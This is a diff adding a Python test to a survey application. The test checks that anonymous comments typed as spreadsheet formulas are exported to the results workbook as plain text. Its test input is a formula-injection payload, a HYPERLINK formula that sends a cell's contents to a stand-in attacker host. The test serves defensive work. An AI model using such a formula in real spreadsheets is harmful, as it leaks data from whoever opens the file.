@@ -171,3 +171,18 @@ def test_figures_are_withheld_below_ten_answers(survey):
     assert result["suppressed"] and result["overall"] is None and result["by_content"] == {}
     published = ComputedValue.objects.get(source=SATISFACTION_OVERALL)
     assert published.value is None and published.detail == result, "no figure for the engine, the rest kept"
+
+
+def test_an_anonymous_comment_written_as_a_formula_is_exported_as_text(client, survey):
+    """An answerer types a formula as a comment: the results workbook shows it as typed and never runs it."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
+    for household in survey.households[:10]:
+        answer_submit(
+            household=household, responses=all_satisfied(survey.campaign), comments={"y_kien_khac": formula}
+        )
+    client.force_login(survey.cast.coordinator)
+    response = client.get(reverse("surveys:results_export", args=[survey.campaign.pk]))
+    sheet = load_workbook(io.BytesIO(response.content))["Ý kiến"]
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == formula]
+    assert len(cells) == 10
+    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
